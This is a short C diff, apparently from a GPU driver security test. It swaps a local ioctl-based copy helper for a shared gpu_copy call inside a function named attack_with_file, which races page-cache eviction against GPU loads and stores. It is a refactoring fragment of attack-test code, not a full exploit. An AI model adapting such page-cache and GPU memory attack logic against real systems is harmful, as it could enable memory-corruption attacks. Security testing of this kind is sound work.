@@ -519,13 +519,6 @@ static int run_loads(void *p, size_t offset)
 	return err;
 }
 
-static int copy_from(struct gpu *gpu, uint64_t dst, uint64_t src)
-{
-	struct gpubp_sim_copy args = { .dst = dst, .src = src, .size = 4 };
-
-	return ioctl(grun_fd(gpu->dev), GPUBP_SIM_COPY, &args) ? -errno : 0;
-}
-
 /* drop the second page from the page cache, and let waves bring it in again */
 static bool drop_and_bring(void *p, int file)
 {
@@ -572,7 +565,7 @@ static int attack_with_file(int sock, void *arg)
 	if (!drop_and_bring(p, file) || !say(sock, 0))
 		return 1;
 	for (;;) {
-		if (run_loads(p, 0) != -EFAULT || copy_from(&gpu, out.va, va) != -EFAULT)
+		if (run_loads(p, 0) != -EFAULT || gpu_copy(&gpu, out.va, va, 4) != -EFAULT)
 			return 1;
 		*(volatile uint32_t *)(p + PAGE) = 0;
 		if (gpu_run(&gpu, "repeat", 1, GPU_ARGS(va + PAGE, STORES)) ||
